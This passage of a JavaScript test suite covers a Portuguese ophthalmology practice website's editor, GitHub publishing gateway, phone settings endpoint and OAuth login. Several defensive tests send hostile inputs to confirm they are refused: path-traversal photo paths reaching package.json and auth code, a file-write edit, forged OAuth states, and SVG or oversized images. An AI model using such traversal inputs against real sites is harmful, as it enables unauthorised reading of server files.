      message: "Atualiza um artigo",
      tree: (await tree.json()).sha,
      parents: [head],
    });
    assert.equal(commit.status, 201);
    const { sha } = await commit.json();
    const update = await send(`${repo}/git/refs/heads/main`, "PATCH", { sha });
    assert.equal(update.status, 200, await update.clone().text());
    assert.equal(github.head(), sha);
    assert.equal(github.commit(sha).author.email, staff.email);
    assert.equal(github.file(article), text);
  });

  it("GitHub refusing the App: a Portuguese message, and nothing written", async () => {
    const jwt = await access.mint(staff);
    const { token: session } = await signIn(jwt);
    const headBefore = github.head();
    github.failures.refusing = true;
    try {
      const response = await gateway(`${repo}/git/blobs`, {
        method: "POST",
        jwt,
        session,
        body: { content: Buffer.from("{}").toString("base64"), encoding: "base64" },
      });
      assert.equal(response.status, 502);
      assert.match(
        (await response.json()).message,
        /O GitHub recusou o acesso do site\. Nada foi publicado/,
      );
    } finally {
      github.failures.refusing = false;
    }
    assert.equal(github.head(), headBefore);
  });
});

describe("the practice endpoint, the phone page's one door: /api/editor/practice", () => {
  const settingsPath = "src/content/site-settings.json";
  const photoPath = "src/images/doctor-portrait.jpg";
  /** A day `days` from now, as the settings write it (far enough from midnight in the practice's time zone). */
  const inDays = (days) => new Date(Date.now() + days * 86_400_000).toISOString().slice(0, 10);
  /** A request to the endpoint with a good sign-in and session. */
  async function practice(query = "", body) {
    const jwt = await access.mint(staff);
    const { token: session } = await signIn(jwt);
    const response = await fetch(`${site.url}/api/editor/practice${query}`, {
      method: body === undefined ? "GET" : "POST",
      headers: {
        [accessJwtHeader]: jwt,
        Authorization: `token ${session}`,
        ...(body === undefined ? {} : { "Content-Type": "application/json" }),
      },
      ...(body === undefined ? {} : { body: JSON.stringify(body) }),
    });
    return { status: response.status, body: await response.json() };
  }
  /** GitHub's writes since `before` (an index in the stand-in's requests). */
  const writesSince = (before) =>
    github.requests.slice(before).filter(({ method }) => method !== "GET").length;

  it("reads the settings, a photo and the rest of the site, and nothing outside them", async () => {
    github.resetBranch();
    const settings = await practice();
    assert.equal(settings.status, 200);
    assert.equal(settings.body.settings, github.file(settingsPath));
    const photo = await practice(`?photo=${encodeURIComponent(photoPath)}`);
    assert.equal(photo.status, 200);
    assert.ok(Buffer.from(photo.body.content, "base64").equals(github.bytes(photoPath)));
    const others = await practice(`?site=1&photo=${encodeURIComponent(photoPath)}`);
    assert.equal(others.status, 200);
    const files = others.body.files.map(({ file }) => file);
    assert.ok(files.includes("src/content/catarata.json"), files.join(", "));
    assert.ok(!files.includes(settingsPath));
    assert.ok(
      files.every((file) => /^src\/content\/(artigos\/)?[^/]+\.json$/.test(file)),
      files.join(", "),
    );
    assert.ok(!files.some((file) => file.includes("schemas")));
    assert.equal(others.body.drawnPortrait, photoPath, "the shipped photo is the drawn portrait");
    for (const path of [
      "functions/api/auth.ts",
      "src/images/../../package.json",
      "src/content/home.json",
    ]) {
      const refused = await practice(`?photo=${encodeURIComponent(path)}`);
      assert.equal(refused.status, 400, path);
      assert.equal(refused.body.content, undefined);
    }
  });

  it("publishes what was asked as one commit in the person's name, its id the trailer; the same id again, even after another person's publication, writes nothing and answers the same", async () => {
    github.resetBranch();
    const request = "5e8c7a42-7c1e-4d0e-9f3a-2b6d1c0e9a11";
    const headBefore = github.head();
    const asked = {
      request,
      change: { edit: "weekHours", days: { saturday: [{ opens: "08:00", closes: "11:00" }] } },
    };
    const first = await practice("", asked);
    assert.equal(first.status, 200, JSON.stringify(first.body));
    assert.equal(first.body.kind, "published");
    assert.equal(first.body.settings, github.file(settingsPath));
    const commit = github.commit(github.head());
    assert.deepEqual(commit.parents, [headBefore]);
    assert.deepEqual(commit.files, [settingsPath]);
    assert.deepEqual([commit.author.name, commit.author.email], [staff.name, staff.email]);
    assert.equal(
      commit.message,
      `Horário da semana: Sábado: 8h às 11h (página do celular)\n\nPedido: ${request}`,
    );
    assert.deepEqual(JSON.parse(github.file(settingsPath)).practice.hours.saturday, [
      { opens: "08:00", closes: "11:00" },
    ]);
    // The reply was lost; the phone asks again: nothing written, the same answer.
    const written = github.head();
    const requestsBefore = github.requests.length;
    const again = await practice("", asked);
    assert.equal(again.status, 200);
    assert.deepEqual(again.body, { ...first.body, again: true });
    assert.equal(github.head(), written);
    assert.equal(writesSince(requestsBefore), 0, "nothing written to GitHub");
    // Someone else published in between: the id is found below the head, and still nothing is written.
    const home = JSON.parse(github.file("src/content/home.json"));
    const beside = github.publishBeside({
      "src/content/home.json": `${JSON.stringify(home, null, 2)}\n `,
    });
    const late = await practice("", asked);
    assert.equal(late.status, 200);
    assert.equal(late.body.again, true);
    assert.equal(github.head(), beside, "no second commit of the same change");
  });

  it("two taps at once: one commit, and both say published", async () => {
    github.resetBranch();
    const headBefore = github.head();
    const day = inDays(40);
    const asked = {
      request: "0c9d5f1e-3a2b-4c6d-8e7f-9a0b1c2d3e4f",
      change: { edit: "addSpecialDate", date: { from: day, reason: "Dedetização", intervals: [] } },
    };
    const answers = await Promise.all([practice("", asked), practice("", asked)]);
    assert.deepEqual(
      answers.map(({ status, body }) => [status, body.kind]),
      [
        [200, "published"],
        [200, "published"],
      ],
    );
    assert.deepEqual(github.commit(github.head()).parents, [headBefore], "one commit on the head");
    assert.equal(
      JSON.parse(github.file(settingsPath)).practice.hoursExceptions.filter(
        ({ from }) => from === day,
      ).length,
      1,
    );
  });

  it("a mistake in the newest file with the change is refused at its field in Portuguese, and nothing is committed", async () => {
    github.resetBranch();
    const held = JSON.parse(github.file(settingsPath)).practice.hoursExceptions.length;
    const day = inDays(50);
    // A date already there, published by someone else since the phone read the file.
    github.publishBeside({
      [settingsPath]: (() => {
        const settings = JSON.parse(github.file(settingsPath));
        settings.practice.hoursExceptions.push({ from: day, reason: "Feriado", intervals: [] });
        return `${JSON.stringify(settings, null, 2)}\n`;
      })(),
    });
    const headBefore = github.head();
    const requestsBefore = github.requests.length;
    const ids = ["a", "b", "c", "d", "e"].map(
      (letter) => `${letter.repeat(8)}-aaaa-4aaa-8aaa-${"a".repeat(12)}`,
    );
    for (const [index, [what, change, field, words]] of [
      [
        "Saturday closing before it opens",
        { edit: "weekHours", days: { saturday: [{ opens: "12:00", closes: "08:00" }] } },
        "practice.hours.saturday[0].closes",
        /fechar precisa ser depois do de abrir/,
      ],
      [
        "an end before the start",
        {
          edit: "addSpecialDate",
          date: { from: inDays(60), until: inDays(55), reason: "Férias", intervals: [] },
        },
        `practice.hoursExceptions[${held + 1}].until`,
        /não pode ser antes da data inicial/,
      ],
      [
        "a date already in the list",
        { edit: "addSpecialDate", date: { from: day, reason: "Feriado municipal", intervals: [] } },
        `practice.hoursExceptions[${held + 1}].from`,
        /já está/,
      ],
      [
        "31 February",
        { edit: "addSpecialDate", date: { from: "2027-02-31", reason: "Feriado", intervals: [] } },
        `practice.hoursExceptions[${held + 1}].from`,
        /não existe/,
      ],
      [
        "a date already over",
        { edit: "addSpecialDate", date: { from: inDays(-3), reason: "Feriado", intervals: [] } },
        `practice.hoursExceptions[${held + 1}].from`,
        /já passou/,
      ],
    ].entries()) {
      const { status, body } = await practice("", { request: ids[index], change });
      assert.equal(status, 422, `${what}: ${JSON.stringify(body)}`);
      assert.equal(body.kind, "invalid", what);
      assert.equal(body.problems[0].path, field, `${what}: ${JSON.stringify(body.problems)}`);
      assert.match(body.problems[0].message, words, what);
      assert.match(body.problems[0].where, /Datas especiais|Horário de atendimento/, what);
    }
    assert.equal(github.head(), headBefore, "nothing committed");
    assert.equal(writesSince(requestsBefore), 0, "nothing written to GitHub");
  });

  it("refuses what is not a change the page makes, and a photo that is not a JPEG it can take, writing nothing", async () => {
    github.resetBranch();
    const headBefore = github.head();
    const requestsBefore = github.requests.length;
    const request = "f0e1d2c3-b4a5-4968-8776-655443322110";
    for (const [what, body, status, words] of [
      ["no id", { change: { edit: "weekHours", days: {} } }, 400, /não é uma mudança/],
      [
        "an unknown edit",
        { request, change: { edit: "writeFile", path: "package.json" } },
        400,
        /não é uma mudança/,
      ],
      [
        "a 300 KB reason",
        {
          request,
          change: {
            edit: "addSpecialDate",
            date: { from: inDays(9), reason: "a".repeat(300 * 1024), intervals: [] },
          },
        },
        400,
        /não é uma mudança/,
      ],
      [
        "SVG bytes as the photo",
        {
          request,
          change: { edit: "photo" },
          photo: base64("<svg xmlns='http://www.w3.org/2000/svg'/>"),
        },
        415,
        /JPEG, PNG ou WebP/,
      ],
      [
        "a 16k × 16k PNG",
        { request, change: { edit: "photo" }, photo: base64(pngOf(16384, 16384)) },
        413,
        /40 megapixels/,
      ],
      [
        "a PNG, where the site's photo is a JPEG",
        { request, change: { edit: "photo" }, photo: base64(pngOf(600, 800)) },
        415,
        /não é uma imagem JPEG/,
      ],
    ]) {
      const answer = await practice("", body);
      assert.equal(answer.status, status, `${what}: ${JSON.stringify(answer.body)}`);
      assert.match(answer.body.message, words, what);
    }
    assert.equal(github.head(), headBefore);
    assert.equal(writesSince(requestsBefore), 0, "nothing written to GitHub");
  });

  it("a new photo is published at the photo's own path, as its bytes came", async () => {
    github.resetBranch();
    const headBefore = github.head();
    const jpeg = await sharp({
      create: { width: 600, height: 800, channels: 3, background: "#0c3136" },
    })
      .jpeg()
      .toBuffer();
    const { status, body } = await practice("", {
      request: "9a8b7c6d-5e4f-4a3b-8c2d-1e0f9a8b7c6d",
      change: { edit: "photo" },
      photo: jpeg.toString("base64"),
    });
    assert.equal(status, 200, JSON.stringify(body));
    const commit = github.commit(github.head());
    assert.deepEqual(commit.parents, [headBefore]);
    assert.deepEqual(commit.files, [photoPath]);
    assert.ok(github.bytes(photoPath).equals(jpeg));
  });
});

describe("the e-mail sign-in in the built editor", () => {
  /** The editor in a fresh browser, with Access's JWT on every request to the site, as Access adds it. */
  async function openEditor({ viewport = { width: 1280, height: 900 }, hasTouch = false } = {}) {
    const context = await browser.newContext({ viewport, hasTouch });
    const jwt = await access.mint(staff);
    await context.route(`${site.url}/**`, (route) =>
      route.continue({
        headers: { ...route.request().headers(), [accessJwtHeader.toLowerCase()]: jwt },
      }),
    );
    // No decap-server on this machine's port 8081: the editor uses the gateway.
    await context.route("http://localhost:8081/**", (route) => route.abort());
    const page = await context.newPage();
    const seen = { bodies: [], complaints: [], errors: [], refused: [] };
    const record = (target) => {
      target.on("response", async (response) => {
        if (response.url().startsWith(`${site.url}/api/github/`) && response.status() >= 400)
          seen.refused.push(
            `${response.status()} ${response.request().method()} ${response.url()}`,
          );
        // A response still arriving as the test closes its browser has no headers or body left to read.
        const closed = () => null;
        seen.bodies.push(JSON.stringify(await response.allHeaders().catch(closed)));
        seen.bodies.push(await response.text().catch(() => ""));
      });
      target.on("console", (message) => {
        if (/Content Security Policy/i.test(message.text())) seen.complaints.push(message.text());
      });
    };
    record(page);
    context.on("page", record);
    page.on("pageerror", (error) => seen.errors.push(String(error)));
    await openFullEditor(page, `${site.url}/admin/`);
    const [popup] = await Promise.all([
      context.waitForEvent("page"),
      page.getByRole("button", { name: "Entrar com o seu e-mail" }).click(),
    ]);
    await signInWindowCloses(popup);
    // Signed in: the editor lists the site's pages.
    await page.getByRole("link", { name: /Página inicial/ }).waitFor();
    return { context, page, seen };
  }

  async function publish(page) {
    await page.getByRole("button", { name: "Publicar" }).click();
    await page.getByRole("menuitem", { name: "Publicar agora" }).click();
  }

  it("a staff member changes the home page's title and publishes: one commit, one file, by their e-mail; no GitHub token in the browser", async () => {
    const { context, page, seen } = await openEditor();
    await page.getByText(`Você entrou como ${staff.email}`).waitFor();
    const headBefore = github.head();
    await page.getByRole("link", { name: /Página inicial/ }).click();
    const title = "Cuidado atencioso para a saúde dos seus olhos";
    await page.getByRole("textbox", { name: "Título principal" }).first().fill(title);
    await publish(page);
    await page.getByText("Publicado", { exact: true }).waitFor();

    const commit = github.commit(github.head());
    assert.deepEqual(commit.parents, [headBefore], "one commit on top of the head");
    assert.deepEqual(commit.files, ["src/content/home.json"]);
    assert.equal(commit.author.email, staff.email);
    assert.equal(commit.author.name, staff.name);
    assert.equal(JSON.parse(github.file("src/content/home.json")).hero.title, title);

    const installation = github.installationTokens.map(({ token }) => token);
    assert.ok(installation.length > 0, "the gateway used the App's installation token");
    const storage = await page.evaluate(() =>
      JSON.stringify({ ...localStorage, ...sessionStorage }),
    );
    const cookies = JSON.stringify(await context.cookies());
    const html = await page.content();
    for (const token of installation)
      for (const [where, text] of [
        ["storage", storage],
        ["cookies", cookies],
        ["page", html],
        ["responses", seen.bodies.join("\n")],
      ])
        assert.ok(!text.includes(token), `the installation token is not in the browser's ${where}`);
    assert.deepEqual(seen.complaints, []);
    assert.deepEqual(seen.errors, []);
    // Everything the editor asked of the gateway, from signing in to publishing, was let through.
    assert.deepEqual(seen.refused, []);
    await context.close();
  });

  it("an expired session asks to sign in again, and the publication goes on with what was typed", async () => {
    const { context, page } = await openEditor();
    await page.getByRole("link", { name: /Página inicial/ }).click();
    const lead = "Consultas, exames e cirurgias, com tempo para ouvir e explicar cada passo.";
    await page.getByRole("textbox", { name: "Texto abaixo do título" }).first().fill(lead);
    // An hour later: the session the editor holds has expired.
    const expired = await editorSession.signSession(
      { ...staff, subject: `id-${staff.email}` },
      new TextEncoder().encode(sessionSecret),
      Math.floor(Date.now() / 1000) - 7200,
    );
    await page.evaluate((token) => {
      const user = JSON.parse(localStorage.getItem("decap-cms-user"));
      localStorage.setItem("decap-cms-user", JSON.stringify({ ...user, token }));
    }, expired);
    // The first request with that session brings up the dialog: publishing, or one the editor makes by itself (the
    // home page's article menus read the articles). In the second case the dialog comes before the tap on
    // "Publicar", or while its menu is open, and closes it before "Publicar agora" is chosen: the staff member
    // publishes again once signed in.
    const chosen = page
      .getByRole("button", { name: "Publicar" })
      .click({ timeout: 5000 })
      .then(() => page.getByRole("menuitem", { name: "Publicar agora" }).click({ timeout: 5000 }))
      .then(
        () => true,
        () => false,
      );
    const dialog = page.getByRole("dialog", { name: "Sua sessão no editor expirou" });
    await dialog.waitFor();
    assert.equal(
      await page.getByRole("textbox", { name: "Texto abaixo do título" }).first().inputValue(),
      lead,
    );
    const [popup] = await Promise.all([
      context.waitForEvent("page"),
      dialog.getByRole("button", { name: "Entrar de novo" }).click(),
    ]);
    await signInWindowCloses(popup);
    if (!(await chosen)) await publish(page);
    await page.getByText("Publicado", { exact: true }).waitFor();
    assert.equal(JSON.parse(github.file("src/content/home.json")).hero.lead, lead);
    assert.equal(github.commit(github.head()).author.email, staff.email);
    await context.close();
  });

  it("GitHub down: the editor says so in Portuguese, and the repository stays as it was", async () => {
    const { context, page } = await openEditor();
    await page.getByRole("link", { name: /Página inicial/ }).click();
    await page
      .getByRole("textbox", { name: "Linha pequena acima do título" })
      .first()
      .fill("Oftalmologia");
    const headBefore = github.head();
    github.failures.down = true;
    try {
      await publish(page);
      await page.getByText(/O GitHub não respondeu\. Nada foi publicado/).waitFor();
    } finally {
      github.failures.down = false;
    }
    assert.equal(github.head(), headBefore);
    assert.equal(
      JSON.parse(github.file("src/content/home.json")).hero.eyebrow,
      "Oftalmologia clínica e cirúrgica",
    );
    await context.close();
  });

  it("GitHub down: the message is the gateway's own sentence, with no error's kind before it", async () => {
    const { context, page } = await openEditor();
    await page.getByRole("link", { name: /Página inicial/ }).click();
    await page
      .getByRole("textbox", { name: "Linha pequena acima do título" })
      .first()
      .fill("Oftalmologia geral");
    github.failures.down = true;
    try {
      await publish(page);
      const message = page.getByText(/O GitHub não respondeu\. Nada foi publicado/);
      await message.waitFor();
      assert.match(await message.innerText(), /^O GitHub não respondeu\. Nada foi publicado/);
    } finally {
      github.failures.down = false;
    }
    await context.close();
  });

  it("a holiday closure published from the full editor at 1280 px is one commit of site-settings.json, its hours []", async () => {
    const { context, page, seen } = await openEditor();
    const headBefore = github.head();
    const before = JSON.parse(github.file("src/content/site-settings.json"));
    const day = new Date(Date.now() + 30 * 86_400_000).toISOString().slice(0, 10);
    await page.getByRole("link", { name: /Dados do consultório/ }).click();
    const list = page
      .locator("div")
      .filter({ has: page.getByText(/^\d+ datas especiais$/) })
      .last();
    await list.getByRole("button", { name: "Mostrar" }).click();
    await page.getByRole("button", { name: "Adicionar datas especiais" }).click();
    await page.getByRole("textbox", { name: "Data", exact: true }).last().fill(day);
    await page.getByRole("textbox", { name: "Motivo" }).last().fill("Feriado municipal");
    await publish(page);
    // The settings still hold example data: the editor asks, in its own dialog, and the staff member publishes.
    const question = page.getByRole("dialog", { name: "Publicar com itens a conferir?" });
    await question.getByRole("button", { name: "Publicar assim mesmo" }).click();
    await page.getByText("Publicado", { exact: true }).waitFor();

    const commit = github.commit(github.head());
    assert.deepEqual(commit.parents, [headBefore]);
    assert.deepEqual(commit.files, ["src/content/site-settings.json"]);
    assert.equal(commit.author.email, staff.email);
    const written = github.file("src/content/site-settings.json");
    assert.deepEqual(JSON.parse(written).practice.hoursExceptions, [
      ...before.practice.hoursExceptions,
      { from: day, reason: "Feriado municipal", intervals: [] },
    ]);
    assert.match(written, /"reason": "Feriado municipal",\n\s*"intervals": \[\]/);
    assert.deepEqual(seen.errors, []);
    assert.deepEqual(seen.refused, []);
    await context.close();
  });

  it("the photo in its field comes through the gateway", async () => {
    const { context, page, seen } = await openEditor();
    assert.ok(await photoFieldShowsPortrait(page), "the field shows the doctor's portrait");
    assert.deepEqual(seen.refused, []);
    await context.close();
  });

  for (const viewport of [
    { width: 360, height: 740 },
    { width: 360, height: 640 },
    { width: 390, height: 844 },
  ])
    it(`at ${viewport.width} x ${viewport.height}, the bar covers no entry and its links are 44 x 44 px targets`, async () => {
      const { context, page } = await openEditor({ viewport, hasTouch: true });
      const bar = page.getByRole("complementary", { name: "Sua entrada no editor" });
      await bar.getByText(staff.email).waitFor();
      // The list scrolled to its end: the last entry sits wholly above the bar.
      const last = page.getByRole("link", { name: /Dados do consultório/ });
      await page.mouse.move(viewport.width / 2, viewport.height / 3);
      await page.mouse.wheel(0, 5000);
      await page.waitForTimeout(500);
      const entry = await last.boundingBox();
      const box = await bar.boundingBox();
      assert.ok(
        entry.y + entry.height <= box.y,
        `the last entry ends at ${entry.y + entry.height}, the bar starts at ${box.y}`,
      );
      for (const control of [
        bar.getByRole("link", { name: "Página do celular" }),
        bar.getByRole("link", { name: "Resultados" }),
        bar.getByRole("link", { name: "Ajuda" }),
        bar.getByRole("button", { name: "Sair" }),
      ]) {
        const target = await control.boundingBox();
        assert.ok(
          target.width >= 44 && target.height >= 44,
          `${await control.textContent()}: ${target.width} x ${target.height}`,
        );
      }
      // Nor does it cover the end of an entry's form.
      await last.click();
      await page.getByRole("textbox", { name: "Número do WhatsApp" }).waitFor();
      const lastField = page.getByRole("switch", {
        name: "Informações conferidas pelo consultório",
      });
      await lastField.scrollIntoViewIfNeeded();
      await page.mouse.wheel(0, 5000);
      await page.waitForTimeout(500);
      const fieldBox = await lastField.boundingBox();
      const barNow = await bar.boundingBox();
      assert.ok(
        fieldBox.y + fieldBox.height <= barNow.y,
        `the form's last switch ends at ${fieldBox.y + fieldBox.height}, the bar starts at ${barNow.y}`,
      );
      await context.close();
    });

  it("'Resultados' opens the practice's results with the same sign-in, plainly empty before any visit", async () => {
    const { context, page } = await openEditor();
    await page
      .getByRole("complementary", { name: "Sua entrada no editor" })
      .getByRole("link", { name: "Resultados" })
      .click();
    await page.waitForURL(`${site.url}/admin/resultados/`);
    await page.getByRole("heading", { level: 1, name: "Resultados do site" }).waitFor();
    await page.getByRole("heading", { level: 2, name: "Ainda não há números" }).waitFor();
    await context.close();
  });

  it("'Ajuda' opens the staff's guide in a new tab, with the same sign-in, and leaves the editor as it was", async () => {
    const { context, page } = await openEditor();
    const help = page
      .getByRole("complementary", { name: "Sua entrada no editor" })
      .getByRole("link", { name: "Ajuda" });
    assert.equal(await help.getAttribute("href"), "/admin/ajuda/");
    const [guide] = await Promise.all([context.waitForEvent("page"), help.click()]);
    await guide.waitForLoadState();
    assert.equal(guide.url(), `${site.url}/admin/ajuda/`);
    const title = /^# (.+)$/m.exec(readFileSync("docs/guia-da-equipe.md", "utf8"))?.[1] ?? "";
    await guide.getByRole("heading", { level: 1, name: title }).waitFor();
    // The editor stays open in its own tab.
    await page.getByRole("link", { name: /Página inicial/ }).waitFor();
    await context.close();
  });

  it("'Sair' forgets the session in this browser and ends Access's sign-in", async () => {
    const { context, page } = await openEditor();
    await page
      .getByRole("complementary", { name: "Sua entrada no editor" })
      .getByRole("button", { name: "Sair" })
      .click();
    await page.waitForURL(`${site.url}/cdn-cgi/access/logout`);
    assert.equal(await page.evaluate(() => localStorage.getItem("decap-cms-user")), null);
    await context.close();
  });
});

describe("the developer's GitHub login: /api/auth", () => {
  /** Starts a login as the editor's window does, and returns the state cookie and where it was sent. */
  async function startLogin() {
    const response = await fetch(`${site.url}/api/auth?provider=github&site_id=x&scope=repo`, {
      redirect: "manual",
    });
    const cookie = response.headers.get("set-cookie") ?? "";
    return { response, cookie, location: new URL(response.headers.get("location") ?? "") };
  }

  it("is off unless the host sets GITHUB_LOGIN=enabled: /api/auth and /api/callback answer 404, its secrets set or not", async () => {
    const exchangesBefore = github.exchanges.length;
    const requestsBefore = github.requests.length;
    for (const path of [
      "/api/auth?provider=github&site_id=x&scope=repo",
      `/api/callback?code=${oauth.code}&state=qualquer`,
    ]) {
      const response = await fetch(plain.url + path, { redirect: "manual" });
      assert.equal(response.status, 404, path);
      assert.equal(response.headers.get("set-cookie"), null, path);
      assert.equal(response.headers.get("location"), null, path);
      const html = await response.text();
      assert.match(
        html,
        /O login com o GitHub está desligado neste site\. Entre com o seu e-mail\./,
      );
      assert.match(html, /authorization:github:error:/);
      assert.doesNotMatch(html, new RegExp(oauth.token));
    }
    assert.equal(github.exchanges.length, exchangesBefore, "no code was exchanged");
    assert.equal(github.requests.length, requestsBefore, "nothing was asked of GitHub");
    // With the setting, the same request starts the login (the tests below).
    const on = await fetch(`${site.url}/api/auth?provider=github&site_id=x&scope=repo`, {
      redirect: "manual",
    });
    assert.equal(on.status, 302);
  });

  it("sends the window to GitHub's authorize page with the client id, the repo scope and a fresh state", async () => {
    const first = await startLogin();
    assert.equal(first.response.status, 302);
    assert.equal(first.response.headers.get("cache-control"), "no-store");
    assert.equal(
      first.location.origin + first.location.pathname,
      `${github.url}/login/oauth/authorize`,
    );
    assert.equal(first.location.searchParams.get("client_id"), oauth.clientId);
    assert.equal(first.location.searchParams.get("scope"), "repo");
    assert.equal(first.location.searchParams.get("redirect_uri"), `${site.url}/api/callback`);
    const state = first.location.searchParams.get("state") ?? "";
    assert.match(state, /^[A-Za-z0-9_-]{43}$/, "32 random bytes");
    assert.match(
      first.cookie,
      new RegExp(
        `^__Host-decap-oauth-state=${state}; Path=/; Max-Age=600; Secure; HttpOnly; SameSite=Lax$`,
      ),
    );
    const second = await startLogin();
    assert.notEqual(second.location.searchParams.get("state"), state, "never the same state twice");
  });

  /** The callback as GitHub's redirect reaches it, with this browser's cookie (or none). */
  function callback({ state, cookie, code = oauth.code }) {
    const url = new URL(`${site.url}/api/callback`);
    if (code) url.searchParams.set("code", code);
    if (state !== undefined) url.searchParams.set("state", state);
    return fetch(url, { headers: cookie ? { cookie: cookie.split(";")[0] } : {} });
  }

  it("a forged, missing or cookieless state gets an error page, and the code is never exchanged", async () => {
    const { cookie, location } = await startLogin();
    const state = location.searchParams.get("state");
    const exchangesBefore = github.exchanges.length;
    for (const attempt of [
      { state: "forjado", cookie },
      { state: `${state}x`, cookie },
      { state: undefined, cookie },
      { state, cookie: undefined },
    ]) {
      const response = await callback(attempt);
      assert.equal(response.status, 403, JSON.stringify(attempt));
      const html = await response.text();
      assert.match(html, /Não foi possível entrar com o GitHub/);
      assert.doesNotMatch(html, new RegExp(oauth.token));
      assert.match(html, /authorization:github:error:/);
    }
    assert.equal(github.exchanges.length, exchangesBefore, "no code was exchanged");
  });

  it("the right state: the code is exchanged, and the page hands the token to the site's own origin only", async () => {
    const { cookie, location } = await startLogin();
    const response = await callback({ state: location.searchParams.get("state"), cookie });
    assert.equal(response.status, 200);
    assert.deepEqual(github.exchanges.at(-1), {
      client_id: oauth.clientId,
      client_secret: oauth.clientSecret,
      code: oauth.code,
      redirect_uri: `${site.url}/api/callback`,
    });
    const html = await response.text();
    assert.ok(
      html.includes(
        `authorization:github:success:{\\"token\\":\\"${oauth.token}\\",\\"provider\\":\\"github\\"}`,
      ),
    );
    assert.ok(html.includes(`var origin = "${site.url}";`));
    assert.doesNotMatch(html, /postMessage\([^)]*"\*"/);
    const csp = response.headers.get("content-security-policy") ?? "";
    const nonce = /script-src 'nonce-([^']+)'/.exec(csp)?.[1];
    assert.ok(nonce && html.includes(`<script nonce="${nonce}">`), csp);
    assert.equal(response.headers.get("cache-control"), "no-store");
    assert.equal(response.headers.get("referrer-policy"), "no-referrer");
    assert.match(
      response.headers.get("set-cookie") ?? "",
      /^__Host-decap-oauth-state=; Path=\/; Max-Age=0;/,
    );
  });

  it("a code GitHub refuses gets an error page, never a token", async () => {
    const { cookie, location } = await startLogin();
    const response = await callback({
      state: location.searchParams.get("state"),
      cookie,
      code: "velho",
    });
    assert.equal(response.status, 502);
    const html = await response.text();
    assert.match(html, /The code is incorrect/);
    assert.doesNotMatch(html, new RegExp(oauth.token));
  });

  it("in the built editor, /admin/?login=github's 'Entrar com o GitHub' logs in through the site's own functions", async () => {
    const context = await browser.newContext({ viewport: { width: 1280, height: 900 } });
    const authorizations = [];
    // GitHub's API is the one thing that cannot run here: answer it, and keep what the editor sent.
    await context.route("https://api.github.com/**", async (route) => {
      authorizations.push(route.request().headers().authorization);
      await route.fulfill({
        status: 401,
        contentType: "application/json",
        body: '{"message":"Bad credentials"}',
      });
    });
    await context.route("http://localhost:8081/**", (route) => route.abort());
    const page = await context.newPage();
    const complaints = [];
    page.on("console", (message) => {
      if (/Content Security Policy|Cross-Origin-Opener-Policy/i.test(message.text()))
        complaints.push(message.text());
    });
    context.on("page", (popup) =>
      popup.on("console", (message) => {
        if (/Content Security Policy/i.test(message.text())) complaints.push(message.text());
      }),
    );
    await page.goto(`${site.url}/admin/?login=github`);
    const [popup] = await Promise.all([
      context.waitForEvent("page"),
      page.getByRole("button", { name: "Entrar com o GitHub" }).click(),
    ]);
    await signInWindowCloses(popup);
    const start = Date.now();
    while (!authorizations.length && Date.now() - start < 15_000)
      await new Promise((resolve) => setTimeout(resolve, 100));
    assert.ok(
      authorizations.some(
        (header) => header === `token ${oauth.token}` || header === `Bearer ${oauth.token}`,
      ),
      `the editor called GitHub with the token, sent: ${JSON.stringify(authorizations)}`,
    );
    assert.deepEqual(complaints, []);
    await context.close();
  });
});
